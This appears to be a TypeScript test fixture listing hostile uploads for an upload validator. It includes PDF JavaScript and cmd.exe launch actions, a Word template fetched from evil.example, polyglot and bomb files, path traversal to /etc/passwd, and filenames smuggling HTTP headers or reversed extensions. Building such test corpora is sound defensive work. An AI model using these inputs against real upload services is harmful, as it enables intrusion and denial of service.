import type { UploadPurpose } from '#core/upload.ts'
import { anObjectStream, anOle, aPdf, aPicture, aPngOf, aZip } from './files.ts'
import { anOffice } from './office-files.ts'

/** A file that must never be kept, sent as a purpose under a name. */
/** Files of records are judged like a CV. */
type Purpose = Exclude<UploadPurpose, 'record' | 'table' | 'declaration'>
export type HostileFile = { purpose: Purpose; what: string; name: string; make: () => Buffer | Promise<Buffer> }

type Entry = [what: string, name: string, make: () => Buffer | Promise<Buffer>]

const megabyte = 1024 * 1024
const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const external =
  '<Relationships><Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
const relations = (data: string | Buffer, name = 'word/_rels/settings.xml.rels') =>
  anOffice('docx', { more: [{ name, data }] })
const relationsOf = (one: string) => relations(`<Relationships>${one}</Relationships>`)
const manyRelations = Array.from({ length: 900 }, (_, i) => ({
  name: `word/_rels/${i}.rels`,
  data: `<Relationships>${' '.repeat(20_000)}</Relationships>`,
}))
const jpegMagic = Buffer.from('ffd8ffe0', 'hex')
const html = Buffer.from('<html><script>alert(1)</script></html>')
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
const many = Array.from({ length: 1001 }, (_, i) => ({ name: `word/${i}.xml`, data: 'x' }))

const photos: Entry[] = [
  ['a page of the web', 'foto.jpg', () => html],
  ['a drawing that runs', 'foto.png', () => svg],
  ['a drawing by its own name', 'foto.svg', () => svg],
  ['a PDF', 'foto.png', () => aPdf()],
  ['one kind under the name of another', 'foto.png', () => aPicture('jpeg')],
  ['a picture with a program name', 'foto.jpg.exe', () => aPicture('jpeg')],
  ['a picture without extension', 'foto', () => aPicture('jpeg')],
  ['a few bytes of a picture', 'foto.jpg', async () => (await aPicture('jpeg')).subarray(0, 40)],
  [
    'a picture that breaks off',
    'foto.png',
    async () => (await aPicture('png', { width: 900, height: 900 })).subarray(0, 300),
  ],
  ['only the first bytes of a GIF', 'foto.gif', () => Buffer.from('GIF89a/*\u0000*/=1;alert(1)')],
  ['100 million points', 'foto.png', () => aPicture('png', { width: 10_000, height: 10_000 })],
  ['an archive', 'foto.jpg', () => aZip([{ name: 'a', data: 'b' }])],
  ['a program', 'foto.jpg', () => Buffer.from('MZ\u0090\u0000 this program', 'latin1')],
  ['900 million points in a few bytes', 'foto.png', () => aPngOf(30_000, 30_000)],
  ['a picture without points', 'foto.png', () => aPngOf(0, 0)],
  ['a page of the web after the first bytes of a picture', 'foto.jpg', () => Buffer.concat([jpegMagic, html])],
  ['a name that ends in a line break', 'foto.jpg\r\n', () => aPicture('jpeg')],
  ['a program under a turned name', 'foto\u202egpj.exe', () => aPicture('jpeg')],
]

const cvs: Entry[] = [
  ['a page of the web', 'cv.pdf', () => html],
  ['a picture', 'cv.pdf', () => aPicture('jpeg')],
  ['text before the PDF begins', 'cv.pdf', () => Buffer.concat([html, aPdf()])],
  ['a PDF with a page behind it', 'cv.pdf', () => aPdf({ tail: `${html}` })],
  ['half a PDF', 'cv.pdf', () => aPdf().subarray(0, 200)],
  ['a script', 'cv.pdf', () => aPdf({ extra: `5 0 obj\n${js}\nendobj` })],
  ['a script spelled in numbers', 'cv.pdf', () => aPdf({ extra: '5 0 obj\n<< /S /#4AavaScript /J#53 (x) >>\nendobj' })],
  ['a script in a packed object', 'cv.pdf', () => aPdf({ extra: anObjectStream(`5 0 ${js}`) })],
  [
    'a script spelled in numbers in a packed object',
    'cv.pdf',
    () => aPdf({ extra: anObjectStream('5 0 << /#4A#53 (x) >>') }),
  ],
  [
    'a script in a packed object behind a text',
    'cv.pdf',
    () => aPdf({ extra: anObjectStream(`5 0 ${js}`, { more: '/P ( obj)' }) }),
  ],
  [
    'a script in a packed object with a long head',
    'cv.pdf',
    () => aPdf({ extra: anObjectStream(`5 0 ${js}`, { more: `/P ${' '.repeat(700)} 1` }) }),
  ],
  [
    'a script in a packed object of another spelling',
    'cv.pdf',
    () => aPdf({ extra: anObjectStream(`5 0 ${js}`).replace('9 0 obj', '9 0\nobj').replace('/ObjStm', '/Obj#53tm') }),
  ],
  [
    'a script in an object packed twice',
    'cv.pdf',
    () => aPdf({ extra: anObjectStream(`5 0 ${js}`, { filter: '[/ASCIIHexDecode /FlateDecode]' }) }),
  ],
  [
    'a script in an object whose packing is told elsewhere',
    'cv.pdf',
    () => aPdf({ extra: anObjectStream(`5 0 ${js}`, { filter: '7 0 R' }) }),
  ],
  [
    'a packed object that breaks off',
    'cv.pdf',
    () =>
      aPdf({
        extra: anObjectStream(`5 0 ${js}`)
          .replace('\nendstream', '')
          .replace(/.{20}$/s, '\nendstream'),
      }),
  ],
  [
    'packed objects one in the other',
    'cv.pdf',
    () => aPdf({ extra: `${'9 0 obj\n<< /Type /ObjStm >>\nstream\n'.repeat(1000)}${'x'.repeat(megabyte)}\nendstream` }),
  ],
  ['3000 packed objects', 'cv.pdf', () => aPdf({ extra: anObjectStream('5 0 <<>>').repeat(3000) })],
  ['a program to be launched', 'cv.pdf', () => aPdf({ extra: '5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj' })],
  ['a file in the file', 'cv.pdf', () => aPdf({ extra: '5 0 obj\n<< /Type /EmbeddedFile >>\nendobj' })],
  ['a list of files in it', 'cv.pdf', () => aPdf({ extra: '5 0 obj\n<< /EmbeddedFiles 6 0 R >>\nendobj' })],
  ['a form that runs', 'cv.pdf', () => aPdf({ extra: '5 0 obj\n<< /XFA 6 0 R >>\nendobj' })],
  ['a film', 'cv.pdf', () => aPdf({ extra: '5 0 obj\n<< /Subtype /RichMedia >>\nendobj' })],
  ['a form that sends itself', 'cv.pdf', () => aPdf({ extra: '5 0 obj\n<< /S /SubmitForm >>\nendobj' })],
  ['a lock', 'cv.pdf', () => aPdf({ trailer: '/Encrypt 9 0 R' })],
  ['a stream that does not end', 'cv.pdf', () => aPdf({ extra: '5 0 obj\n<< >>\nstream\nabc' })],
  ['an object of 100 MB when unpacked', 'cv.pdf', () => aPdf({ extra: anObjectStream(' '.repeat(100 * megabyte)) })],
  ['macros', 'cv.docx', () => anOffice('docx', { more: [{ name: 'word/vbaProject.bin', data: 'x' }] })],
  ['macros in a sheet', 'cv.xlsx', () => anOffice('xlsx', { more: [{ name: 'xl/vbaProject.bin', data: 'x' }] })],
  ['old macro sheets', 'cv.xlsx', () => anOffice('xlsx', { more: [{ name: 'xl/macrosheets/sheet1.xml', data: 'x' }] })],
  ['controls', 'cv.docx', () => anOffice('docx', { more: [{ name: 'word/activeX/activeX1.xml', data: 'x' }] })],
  [
    'a type with macros',
    'cv.docx',
    () =>
      anOffice('docx', { types: '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>' }),
  ],
  [
    'a template from elsewhere',
    'cv.docx',
    () => anOffice('docx', { more: [{ name: 'word/_rels/settings.xml.rels', data: external }] }),
  ],
  [
    'a template that calls itself a link in its address',
    'cv.docx',
    () => relations(external.replace('t.dotm', 'relationships/hyperlink')),
  ],
  [
    'a template by another prefix',
    'cv.docx',
    () => relations(external.replaceAll('<Relationship', '<ş:Relationship').replaceAll('</', '</ş:')),
  ],
  ['a template from &#69;xternal', 'cv.docx', () => relations(external.replace('"External"', '"&#00000069;xternal"'))],
  ['a template behind a sign in a text', 'cv.docx', () => relations(external.replace('Type=', 'Id="a>b" Type='))],
  ['a template that cannot be read', 'cv.docx', () => relationsOf('<Relationship Type=x TargetMode="External"/>')],
  ['a thousand relations that never end', 'cv.docx', () => relationsOf('<Relationship '.repeat(1000))],
  ['a template in other letters', 'cv.docx', () => relations(Buffer.from(`\uFEFF${external}`, 'utf16le'))],
  [
    'a template in letters of another name',
    'cv.docx',
    () => relations(`<?xml version="1.0" encoding="utf-7"?>${external.replaceAll('<', '+ADw-')}`),
  ],
  [
    'a template in words of its own',
    'cv.docx',
    () => relations(`<!DOCTYPE r [<!ENTITY e "External">]>${external.replace('"External"', '"&e;"')}`),
  ],
  ['a template in CAPITALS', 'cv.docx', () => relations(external, 'word/_rels/SETTINGS.XML.RELS')],
  [
    'a second list of types',
    'cv.docx',
    () => anOffice('docx', { more: [{ name: '[content_types].xml', data: '<Types/>' }] }),
  ],
  [
    'parts that share their bytes',
    'cv.docx',
    () =>
      anOffice('docx', {
        more: Array.from({ length: 900 }, (_, i) => ({ name: `a${i}.xml`, data: '', placeOf: 2, unpackedSays: 1 })),
      }),
  ],
  [
    'relations of 2 MB as they stand',
    'cv.docx',
    () =>
      anOffice('docx', { more: [{ name: 'a.rels', data: ' '.repeat(2 * megabyte), isStored: true, unpackedSays: 1 }] }),
  ],
  ['relations of 18 MB in all', 'cv.docx', () => anOffice('docx', { more: manyRelations })],
  ['a sheet under the name of a text', 'cv.docx', () => anOffice('xlsx')],
  ['any archive', 'cv.docx', () => aZip([{ name: 'a.txt', data: 'x' }])],
  ['an archive that says it has nothing', 'cv.docx', () => aZip([{ name: 'a.txt', data: 'x' }], { countSays: 0 })],
  ['an archive of 1001 parts', 'cv.docx', () => anOffice('docx', { more: many })],
  [
    'an archive that says it is huge',
    'cv.docx',
    () => anOffice('docx', { more: [{ name: 'word/a.xml', data: 'x', unpackedSays: 60 * megabyte }] }),
  ],
  [
    'a part of 3 MB of nothing',
    'cv.docx',
    () => anOffice('docx', { more: [{ name: 'word/a.xml', data: Buffer.alloc(3 * megabyte) }] }),
  ],
  [
    'a list of types that lies about its size',
    'cv.docx',
    () => aZip([{ name: '[Content_Types].xml', data: ' '.repeat(20 * megabyte), unpackedSays: 10 }]),
  ],
  ['a path upwards', 'cv.docx', () => anOffice('docx', { more: [{ name: '../../etc/passwd', data: 'x' }] })],
  ['a path from the root', 'cv.docx', () => anOffice('docx', { more: [{ name: '/etc/passwd', data: 'x' }] })],
  ['a path of another system', 'cv.docx', () => anOffice('docx', { more: [{ name: 'word\\..\\x', data: 'x' }] })],
  ['a locked archive', 'cv.docx', () => anOffice('docx', { more: [{ name: 'word/a.xml', data: 'x', flags: 1 }] })],
  ['half an archive', 'cv.docx', () => anOffice('docx').subarray(0, 150)],
  ['an old document with macros', 'cv.doc', () => anOle(['Root Entry', 'WordDocument', 'Macros'])],
  ['an old document with macros in small letters', 'cv.doc', () => anOle(['Root Entry', 'WordDocument', 'macros'])],
  [
    'an old sheet with a project',
    'cv.xls',
    () => anOle(['Root Entry', 'Workbook', '_VBA_PROJECT_CUR', '_VBA_PROJECT']),
  ],
  ['an old container of something else', 'cv.doc', () => anOle(['Root Entry', 'Package'])],
  ['an installer', 'cv.doc', () => anOle(['Root Entry', 'SummaryInformation'])],
  ['only the first bytes of one', 'cv.doc', () => Buffer.from('d0cf11e0a1b11ae1', 'hex')],
  ['a text', 'cv.docx', () => Buffer.from('{\\rtf1 x}')],
  ['a new document under an old name', 'cv.doc', () => anOffice('docx')],
  ['an old document under a new name', 'cv.docx', () => anOle(['Root Entry', 'WordDocument'])],
  ['a program', 'cv.exe', () => Buffer.from('MZ')],
  ['a PDF that is called a program', 'cv.pdf.exe', () => aPdf()],
  ['a page of the web under a name with a zero', 'cv.html\u0000.pdf', () => html],
  ['a program under a name with control signs', '\u0001\u001b[2Jcv.pdf', () => Buffer.from('MZ\u0090')],
  ['a page of the web under a name with lines', 'cv\r\nContent-Type: text/html\r\n.pdf', () => html],
  ['a name without an end', 'cv.', () => aPdf()],
]

const documents: Entry[] = [
  ['a picture', 'belge.pdf', () => aPicture('jpeg')],
  ['a text of the office', 'belge.docx', () => anOffice('docx')],
  ['an archive', 'belge.pdf', () => aZip([{ name: 'a', data: 'b' }])],
  ['a script', 'belge.pdf', () => aPdf({ extra: `5 0 obj\n${js}\nendobj` })],
  ['a lock', 'belge.pdf', () => aPdf({ trailer: '/Encrypt 9 0 R' })],
  ['a page of the web before it', 'belge.pdf', () => Buffer.concat([html, aPdf()])],
  ['a page of the web behind it', 'belge.pdf', () => aPdf({ tail: `${html}` })],
  ['a name of a picture', 'belge.pdf.jpg', () => aPdf()],
]

const of = (purpose: Purpose, entries: Entry[]): HostileFile[] =>
  entries.map(([what, name, make]) => ({ purpose, what, name, make }))

/** The corpus: wrong first bytes, two kinds in one, bombs, macros, scripts, names that deceive. */
export const hostileFiles: HostileFile[] = [...of('photo', photos), ...of('cv', cvs), ...of('document', documents)]
